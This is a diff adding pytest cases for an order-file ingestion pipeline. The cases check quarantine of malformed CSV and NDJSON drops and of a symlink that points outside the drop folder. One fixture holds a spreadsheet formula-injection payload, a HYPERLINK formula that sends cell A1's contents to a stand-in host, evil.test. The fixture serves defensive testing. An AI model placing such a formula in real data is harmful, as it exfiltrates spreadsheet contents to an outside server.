@@ -10,12 +10,14 @@ from __future__ import annotations
 import json
 from dataclasses import dataclass
 from datetime import UTC, datetime
+from pathlib import Path
 
 import polars as pl
 import pytest
 
-from pipelines.extract.landing import validate_records
+from pipelines.extract.landing import read_landing, read_quarantine, validate_records
 from pipelines.extract.streams import stream_spec
+from tests.extract.conftest import make_settings, run
 
 NOW = datetime(2026, 2, 1, 3, 0, tzinfo=UTC)
 LANDS = None
@@ -256,3 +258,135 @@ def test_a_page_of_records_that_are_not_json_is_quarantined_not_schema_drift():
     page = _validate([case, case])
     assert page.missing_required == () and page.landing.height == 0
     assert page.quarantine["reason"].to_list() == [case.expected] * 2
+
+
+# ---- file drops --------------------------------------------------------------------------
+
+ORDER_HEADER = (
+    "order_id,customer_id,email,created_at,updated_at,cancelled_at,financial_status,is_test,"
+    "currency,total_price,total_discounts,refunded_amount,discount_codes,landing_url,referring_url"
+)
+FORMULA = '"=HYPERLINK(""http://evil.test/?""&A1,""click"")"'
+
+
+def order_row(
+    order_id: str,
+    total: str = "10.00",
+    created: str = "2026-01-10T10:00:00Z",
+    email: str = "a@shop.test",
+) -> str:
+    return (
+        f"{order_id},c1,{email},{created},2026-01-10T11:00:00Z,,paid,false,EUR,{total},0.00,0.00,,,"
+    )
+
+
+def orders_csv(tag: str, *rows: str) -> bytes:
+    """A CSV of one good order (`ok-<tag>`) and `rows`."""
+    return "\n".join([ORDER_HEADER, order_row(f"ok-{tag}"), *rows, ""]).encode()
+
+
+def orders_ndjson(tag: str, *records: str) -> bytes:
+    good = (
+        f'{{"order_id":"ok-{tag}","created_at":"2026-01-10T10:00:00Z",'
+        '"updated_at":"2026-01-10T11:00:00Z"}'
+    )
+    return "\n".join([good, *records, ""]).encode()
+
+
+def _order_json(order_id: str, extra: str) -> str:
+    return (
+        f'{{"order_id":"{order_id}","created_at":"2026-01-10T10:00:00Z",'
+        f'"updated_at":"2026-01-10T11:00:00Z",{extra}}}'
+    )
+
+
+LONG_CELL = "x" * 2_100_000
+# file -> (its bytes, (order id or file name, reason) of each quarantine row it causes)
+DROP_CASES: dict[str, tuple[bytes, list[tuple[str | None, str]]]] = {
+    "a-nan.csv": (
+        orders_csv("a", order_row("d1", "NaN")),
+        [("d1", 'bad value: total_price should be money (not finite), got "NaN"')],
+    ),
+    "b-huge-amount.csv": (
+        orders_csv("b", order_row("d2", "1e20")),
+        [("d2", 'bad value: total_price should be money (out of range), got "1e20"')],
+    ),
+    "c-decimal-comma.csv": (
+        orders_csv("c", order_row("d3", '"12,50"')),
+        [("d3", 'wrong type: total_price should be money, got "12,50"')],
+    ),
+    "d-year-9999.csv": (
+        orders_csv("d", order_row("d4", created="9999-01-01T00:00:00Z")),
+        [("d4", 'bad value: created_at should be iso (year out of range), '
+                'got "9999-01-01T00:00:00Z"')],
+    ),
+    "e-2mb-line.csv": (
+        orders_csv("e", order_row("d5", f'"{LONG_CELL}"')),
+        [(None, "malformed CSV row at line 3: Maximum line size of 2000000 bytes exceeded. "
+                "Actual Size:2100088 bytes.")],
+    ),
+    "f-formula.csv": (orders_csv("f", order_row("d6", email=FORMULA)), []),
+    "g-surrogate.ndjson": (
+        orders_ndjson("g", _order_json("d7", '"email":"\\ud800"')),
+        [("d7", "malformed JSON at line 2")],
+    ),
+    "h-nul.ndjson": (
+        orders_ndjson("h", _order_json("d8", '"email":"a\\u0000@shop.test"')),
+        [("d8", "bad value: email (a NUL character, \\u0000)")],
+    ),
+    "i-wrong-types.ndjson": (
+        orders_ndjson("i", _order_json("d9", '"total_price":{"amount":"1"},"is_test":[true]')),
+        [("d9", "wrong type: is_test should be boolean_text, got [true]; "
+                'wrong type: total_price should be money, got {"amount":"1"}')],
+    ),
+    "j-duplicate-key.ndjson": (
+        orders_ndjson("j", _order_json("d10", '"order_id":"d10"')),
+        [("d10", "bad value: field order_id appears more than once")],
+    ),
+    "k-missing-key.ndjson": (
+        orders_ndjson("k", '{"created_at":"2026-01-10T10:00:00Z","updated_at":"2026-01-10T11:00:00Z"}'),
+        [(None, "missing natural key order_id; missing required field order_id")],
+    ),
+    "l-latin1.csv": (
+        orders_csv("l", order_row("d12", email="müller@shop.test")).decode().encode("latin-1"),
+        [("l-latin1.csv", "file l-latin1.csv is not UTF-8 (byte 0xfc at line 3, column 9): "
+          "declare its encoding in its name, e.g. l-latin1.latin-1.csv or l-latin1.cp1252.csv")],
+    ),
+}  # fmt: skip
+
+
+def _quarantined(settings) -> list[tuple[str | None, str]]:
+    frame = read_quarantine(settings.quarantine_dir, "filedrop", "orders")
+    rows = []
+    for record, reason in frame.select("record", "reason").rows():
+        try:
+            parsed = json.loads(record)
+        except ValueError:
+            parsed = {}
+        rows.append((parsed.get("order_id") or parsed.get("file"), reason))
+    return sorted(rows, key=str)
+
+
+def test_drop_files_land_the_good_rows_and_quarantine_each_bad_one_with_its_reason(
+    tmp_path: Path,
+):
+    folder = tmp_path / "drop" / "orders"
+    folder.mkdir(parents=True)
+    for name, (content, _) in DROP_CASES.items():
+        (folder / name).write_bytes(content)
+    outside = tmp_path / "secret.csv"
+    outside.write_bytes(orders_csv("secret"))
+    (folder / "m-link.csv").symlink_to(outside)
+    settings = make_settings(None, tmp_path / "data", drop_dir=tmp_path / "drop")
+    [result] = [r for r in run(settings, "filedrop") if r.stream == "orders"]
+
+    link = "file m-link.csv is a symbolic link; file drops must be regular files inside the drop "
+    link += "folder: copy the file in instead"
+    expected = [row for _, rows in DROP_CASES.values() for row in rows] + [("m-link.csv", link)]
+    assert _quarantined(settings) == sorted(expected, key=str)
+    assert result.quarantined == len(expected)
+    landed = read_landing(settings.landing_dir, "filedrop", "orders")
+    good = [f"ok-{name[0]}" for name in DROP_CASES if name != "l-latin1.csv"] + ["d6"]
+    assert sorted(landed["record_id"]) == sorted(good)
+    formula = landed.filter(pl.col("record_id") == "d6")["record"].item()
+    assert json.loads(formula)["email"] == '=HYPERLINK("http://evil.test/?"&A1,"click")'
